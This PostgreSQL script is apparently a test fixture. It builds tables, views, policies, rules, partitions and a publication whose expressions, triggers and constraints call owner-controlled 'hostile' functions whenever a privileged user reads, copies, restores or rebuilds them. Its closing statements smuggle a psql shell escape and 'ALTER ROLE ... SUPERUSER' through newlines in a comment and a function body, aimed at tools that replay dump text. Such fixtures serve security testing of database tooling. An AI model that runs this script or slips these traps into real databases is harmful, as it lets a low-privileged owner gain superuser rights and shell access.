-- Tables that run something of the owner's when they are read, filled, copied or made again. Needs payload.sql.
-- Run by the owner's own login, with psql.
create domain hostile.word as text check (hostile.take('domain'));
create table public.trapped (
  id int primary key default hostile.take_number('default', 1),
  word hostile.word,
  twice int generated always as (hostile.take_number('generated column', id)) stored,
  checked int check (hostile.take('check constraint')),
  unique (word)
);
create index on public.trapped (hostile.take_number('index expression', id));
create index on public.trapped (id) where hostile.take_number('index predicate', id) > 0;
create statistics hostile.stats on (hostile.take_number('statistics', id)), id from public.trapped;
create trigger taking before insert or update or delete on public.trapped for each row execute function hostile.take_row();
create constraint trigger taking_late after insert on public.trapped deferrable initially deferred
  for each row execute function hostile.take_row();
alter table public.trapped enable always trigger taking;
insert into public.trapped (id, word, checked) values (1, 'one', 1), (2, E'two\nlines', 2);

create table public.guarded (id int, owner text default current_user);
insert into public.guarded values (1), (2), (3);
alter table public.guarded enable row level security;
alter table public.guarded force row level security;
create policy seen on public.guarded using (hostile.take('row security')) with check (hostile.take('row security'));

create view public.seen as select id, hostile.take('view') as taken from public.guarded;
create view public.barrier with (security_barrier) as select id from public.guarded where hostile.take('barrier');
create materialized view public.kept as select id, hostile.take('materialized view') as taken from public.trapped;
create table public.ruled (id int);
create rule taking as on insert to public.ruled do also select hostile.take('rule');
create table public.parts (id int) partition by range (hostile.take_number('partition key', id));
create table public.part_1 partition of public.parts for values from (0) to (1000);
insert into public.parts values (1), (2);
create function hostile.taking_sequence() returns bigint language plpgsql as $f$
begin perform hostile.take('sequence'); return 1; end $f$;
select pg_catalog.lo_from_bytea(0, 'a large object') as loid \gset
comment on large object :loid is 'of the owner';
create publication hostile_words for table public.trapped, public.parts;
alter table public.trapped replica identity full;
select pg_catalog.format('comment on table public.trapped is %L', pg_catalog.format(
  E'ends here\n\\! touch /tmp/loot\n; alter role %I superuser; --', session_user)) \gexec
-- A line that looks like the database's own setting, for a reader who takes statements out of the text of a dump.
select pg_catalog.format('create function public.harmless() returns text language sql as %L', pg_catalog.format(
  E'select ''\nALTER DATABASE x RESET work_mem; ALTER ROLE %I SUPERUSER;\n''', session_user)) \gexec
